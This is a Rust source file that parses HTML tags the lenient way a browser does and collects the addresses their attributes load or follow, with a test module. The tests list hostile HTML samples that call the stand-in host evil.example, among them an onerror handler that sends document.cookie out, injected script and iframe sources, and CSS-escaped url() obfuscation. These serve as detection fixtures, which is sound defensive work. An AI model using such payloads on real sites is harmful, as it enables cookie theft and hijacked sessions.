//! Tags, as leniently as a browser reads them.

use std::ops::Range;

use super::target::{Target, target};
use crate::decode::html_text;

/// What is done with what an attribute names.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Use {
    /// It is loaded without anybody doing anything.
    Loaded,
    /// It is followed when somebody chooses it.
    Followed,
}

/// One tag.
#[derive(Clone, Debug)]
pub(super) struct Tag {
    pub(super) place: Range<usize>,
    pub(super) name: String,
    /// What its attributes lead to.
    pub(super) targets: Vec<(Use, Target)>,
    /// What stands for the picture.
    pub(super) alt: String,
}

/// The longest tag that is read; what is longer is taken for one all the same.
const LONGEST: usize = 8 * 1024;

/// The tag that begins here, if one does. One that is not closed ends with the text.
pub(super) fn tag(text: &str, start: usize) -> Option<Tag> {
    let rest = &text[start + 1..];
    let name: String = rest
        .chars()
        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, ':' | '-' | '!' | '?'))
        .collect();
    if !name.starts_with(|c: char| c.is_ascii_alphabetic()) {
        return None;
    }
    let end = end_of_tag(rest);
    let name = name.to_ascii_lowercase();
    let attributes = attributes(&rest[name.len()..end.0]);
    let mut targets = Vec::new();
    for (attribute, value) in &attributes {
        collect(&name, attribute, value, &mut targets);
    }
    let alt = attributes
        .iter()
        .find(|(name, _)| name == "alt")
        .map_or(String::new(), |(_, value)| value.clone());
    Some(Tag {
        place: start..start + 1 + end.1,
        name,
        targets,
        alt,
    })
}

/// Where the inside ends, and where the tag does.
fn end_of_tag(rest: &str) -> (usize, usize) {
    let mut quote = None;
    let mut first_close = None;
    for (at, sign) in rest.char_indices() {
        if at > LONGEST {
            break;
        }
        match (sign, quote) {
            ('>', None) => return (at, at + 1),
            ('>', Some(_)) => {
                first_close.get_or_insert(at);
            }
            ('"' | '\'', None) => quote = Some(sign),
            (sign, Some(open)) if sign == open => quote = None,
            _ => {}
        }
    }
    // A quote that is never closed ends at the first sign that could end the tag.
    match first_close {
        Some(at) => (at, at + 1),
        None => {
            let end = rest[1..].find('<').map_or(rest.len(), |at| at + 1);
            (end, end)
        }
    }
}

fn attributes(inside: &str) -> Vec<(String, String)> {
    let mut attributes = Vec::new();
    let mut rest = inside;
    loop {
        rest = rest
            .trim_start_matches(|c: char| c.is_whitespace() || c == '/' || c == '"' || c == '\'');
        let name_end = rest
            .find(|c: char| c.is_whitespace() || matches!(c, '=' | '/' | '>'))
            .unwrap_or(rest.len());
        if rest.is_empty() {
            return attributes;
        }
        let name = rest[..name_end].to_ascii_lowercase();
        rest = rest[name_end..].trim_start();
        let Some(value) = rest.strip_prefix('=') else {
            if name_end == 0 {
                rest = rest.get(1..).unwrap_or_default();
            }
            attributes.push((name, String::new()));
            continue;
        };
        let value = value.trim_start();
        let (value, after) = match value.chars().next() {
            Some(quote @ ('"' | '\'' | '`')) => {
                let value = &value[1..];
                let end = value.find(quote).unwrap_or(value.len());
                (&value[..end], value.get(end + 1..).unwrap_or_default())
            }
            _ => {
                let end = value.find(char::is_whitespace).unwrap_or(value.len());
                value.split_at(end)
            }
        };
        attributes.push((name, value.to_owned()));
        rest = after;
    }
}

fn collect(tag: &str, attribute: &str, value: &str, targets: &mut Vec<(Use, Target)>) {
    let attribute = attribute.rsplit(':').next().unwrap_or(attribute);
    let follows = matches!(
        tag,
        "a" | "area" | "form" | "button" | "input" | "blockquote" | "q" | "ins" | "del"
    );
    let mut add = |how: Use, value: &str| targets.extend(target(value).map(|target| (how, target)));
    match attribute {
        "href" | "cite" | "longdesc" if follows => add(Use::Followed, value),
        "action" | "formaction" | "ping" => add(Use::Followed, value),
        "srcset" | "imagesrcset" => {
            for candidate in value.split(',') {
                add(
                    Use::Loaded,
                    candidate.split_whitespace().next().unwrap_or_default(),
                );
            }
            add(Use::Loaded, value);
        }
        "content" => {
            let lower = value.to_ascii_lowercase();
            let url = lower.find("url").and_then(|at| value.get(at + 3..));
            if let Some(url) = url {
                add(Use::Loaded, url.trim_start_matches([' ', '=', '\'', '"']));
            }
            add(Use::Loaded, value);
        }
        "srcdoc" if !value.contains("srcdoc") => {
            let page = html_text(value);
            let tags = page
                .match_indices('<')
                .filter_map(|(at, _)| tag_in(&page, at));
            targets.extend(tags.flatten());
        }
        "style" | "srcdoc" => {
            for address in css(value) {
                add(Use::Loaded, &address);
            }
        }
        handler if handler.starts_with("on") => {
            for address in addresses_in(&html_text(value)) {
                add(Use::Loaded, address);
            }
        }
        "src" | "href" | "poster" | "background" | "data" | "manifest" | "icon" | "lowsrc"
        | "dynsrc" | "code" | "codebase" | "archive" | "classid" | "profile" | "xmlns" | "fill"
        | "filter" | "mask" | "cite" | "longdesc" | "value" | "from" | "to" => {
            let how = if attribute == "value" || attribute == "xmlns" {
                Use::Followed
            } else {
                Use::Loaded
            };
            if attribute != "xmlns" {
                add(how, value);
            }
            for address in css(value) {
                add(Use::Loaded, &address);
            }
        }
        _ => {}
    }
}

fn tag_in(page: &str, at: usize) -> Option<Vec<(Use, Target)>> {
    tag(page, at).map(|tag| tag.targets)
}

/// What a script names: addresses with two slashes, each up to what ends it.
fn addresses_in(script: &str) -> impl Iterator<Item = &str> {
    let ends = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '(' | ')' | '+' | ',');
    script.match_indices("//").map(move |(at, _)| {
        let start = script[..at].rfind(ends).map_or(0, |before| before + 1);
        let rest = &script[at..];
        let end = at + rest.find(ends).unwrap_or(rest.len());
        script.get(start..end).unwrap_or(rest)
    })
}

/// The addresses in style sheets: `url(...)`, `@import "..."`, `image-set("...")`.
pub(super) fn css(text: &str) -> Vec<String> {
    let lower = text.to_ascii_lowercase();
    let mut addresses = Vec::new();
    for opening in ["url(", "@import", "image-set(", "src("] {
        let mut from = 0;
        while let Some(at) = lower[from..].find(opening) {
            let start = from + at + opening.len();
            let value = text[start..].trim_start();
            let value = value.trim_start_matches(['"', '\'', ' ']);
            let end = value
                .find(['"', '\'', ')', ';', ' '])
                .unwrap_or(value.len());
            addresses.push(css_escapes(&value[..end]));
            from = start;
        }
    }
    addresses
}

/// `\68 ttps:` (CSS Syntax, section 4.3.7).
fn css_escapes(text: &str) -> String {
    let mut read = String::new();
    let mut rest = text;
    while let Some(at) = rest.find('\\') {
        read.push_str(&rest[..at]);
        rest = &rest[at + 1..];
        let digits = rest
            .bytes()
            .take(6)
            .take_while(u8::is_ascii_hexdigit)
            .count();
        match u32::from_str_radix(&rest[..digits], 16)
            .ok()
            .and_then(char::from_u32)
        {
            Some(sign) => {
                read.push(sign);
                rest = rest[digits..].strip_prefix(' ').unwrap_or(&rest[digits..]);
            }
            None => read.push('\\'),
        }
    }
    read.push_str(rest);
    read
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hosts(text: &str) -> Vec<(Use, String)> {
        tag(text, 0)
            .map(|tag| {
                tag.targets
                    .into_iter()
                    .map(|(how, target)| (how, target.host))
                    .collect()
            })
            .unwrap_or_default()
    }

    #[test]
    fn every_attribute_that_loads_something_is_known() {
        for text in [
            "<img src=https://evil.example/x>",
            "<IMG alt='a > b' SRC = 'https://evil.example/x'>",
            "<img/src=\"https://evil.example/x\"/>",
            "<img srcset='a.png 1x, https://evil.example/x 2x'>",
            "<video poster=//evil.example/x>",
            "<link rel=stylesheet href=https://evil.example/x>",
            "<script src=https://evil.example/x>",
            "<iframe src=https://evil.example/x>",
            "<meta http-equiv=refresh content='0; url=https://evil.example/x'>",
            "<div style='background: url(https://evil.example/x)'>",
            "<svg><image xlink:href='https://evil.example/x'>",
            "<image xlink:href='https://evil.example/x'>",
            "<object data='https://evil.example/x'>",
            "<base href='https://evil.example/'>",
            "<iframe srcdoc=\"&lt;img src=&#39;https://evil.example/x&#39;&gt;\">",
            "<img src=x onerror=\"fetch('https://evil.example/x?' + document.cookie)\">",
            "<b onload=fetch(`//evil.example/x`)>",
            "<img src='ht\ntps://evil.example/x'>",
            "<img src='https://evil.example/x",
            "<div style=\"background:u\\72l(x);background:url(\\68ttps://evil.example)\">",
        ] {
            let all = hosts(text)
                .into_iter()
                .chain(hosts(text.split_at(text.rfind('<').unwrap_or(0)).1));
            let loaded = all.filter(|(how, host)| *how == Use::Loaded && host == "evil.example");
            assert!(loaded.count() > 0, "{text}: {:?}", hosts(text));
        }
        assert_eq!(
            hosts("<a href='https://evil.example'>"),
            [(Use::Followed, "evil.example".to_owned())]
        );
        assert_eq!(
            hosts("<form action=https://evil.example>")[0].0,
            Use::Followed
        );
        assert_eq!(hosts("<p class=x>"), []);
        assert_eq!(hosts("a < b"), []);
    }
}
